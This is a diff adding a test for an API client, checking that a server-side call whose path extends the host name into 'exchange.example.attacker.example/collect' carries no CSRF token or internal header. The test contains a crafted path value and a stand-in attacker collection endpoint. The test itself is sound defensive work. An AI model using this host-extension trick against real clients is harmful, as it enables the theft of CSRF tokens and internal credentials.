@@ -53,3 +53,23 @@ describe('given server-side rendering (no window)', () => {
     expect(seenToken).toBe('from-request');
   });
 });
+
+describe('given a server-side call that leaves the configured origin', () => {
+  it('sends no CSRF token and none of the extra headers (a path that extends the host name)', async () => {
+    let seen: { csrf: string | null; internal: string | null } | undefined;
+    server.use(
+      http.get('https://exchange.example.attacker.example/collect', ({ request }) => {
+        seen = { csrf: request.headers.get('csrftoken'), internal: request.headers.get('X-Internal-Call') };
+        return HttpResponse.json({});
+      }),
+    );
+
+    await createApiClient({
+      baseUrl: 'https://exchange.example',
+      extraHeaders: { 'X-Internal-Call': '1' },
+      readCookie: () => 'from-request',
+    }).getResult('.attacker.example/collect', { parse: (raw) => raw });
+
+    expect(seen).toEqual({ csrf: null, internal: null });
+  });
+});
